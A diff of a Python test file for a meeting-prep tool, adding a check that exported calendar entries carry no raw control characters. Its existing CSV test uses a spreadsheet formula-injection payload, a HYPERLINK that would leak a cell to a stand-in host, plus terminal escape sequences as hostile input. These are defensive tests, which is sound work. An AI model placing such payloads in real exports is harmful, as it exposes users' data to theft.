@@ -13,7 +13,9 @@ import pytest
 from helpers import NOW, debriefed_meeting
 
 from prep.cli import main
+from prep.insights.followups import open_followups
 from prep.model.meeting import FollowUp
+from prep.reports.calendar import followups_ics
 from prep.reports.export import export_csv
 from prep.reports.inert import CONTROLS, inert
 from prep.storage import Store
@@ -159,6 +161,7 @@ def test_checklist_text_is_listed_and_validated_inert(
     assert code == 1
     assert acted_on(out + err) == [] and "sec\\x1b[2Jtions\\nx" in out
 
+
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"])
 def test_no_csv_cell_starts_a_formula(db_path: Path, start: str) -> None:
     formula = f'{start}HYPERLINK("https://example.invalid/?leak="&A1;"Open")'
@@ -173,3 +176,15 @@ def test_no_csv_cell_starts_a_formula(db_path: Path, start: str) -> None:
         assert cells[column].startswith("'" + formula), column  # the text itself is kept, after the quote
     assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
+
+def test_the_calendar_file_holds_no_control_character(db_path: Path) -> None:
+    from icalendar import Calendar
+
+    meeting = debriefed_meeting(HOSTILE, 2, followups=[FollowUp(text=HOSTILE, due=NOW.date(), id=f"id{HOSTILE}")])
+    store = Store(db_path)
+    store.save(meeting)
+    data = followups_ics(open_followups(store), NOW)
+    lines = data.decode("utf-8").split("\r\n")  # RFC 5545 ends (and folds) lines with CR LF
+    assert [line for line in lines if "\n" in line or "\r" in line or acted_on(line)] == []
+    event = Calendar.from_ical(data).walk("VEVENT")[0]
+    assert "\\x1b[2J" in str(event["summary"]) and "\\x00" in str(event["summary"])
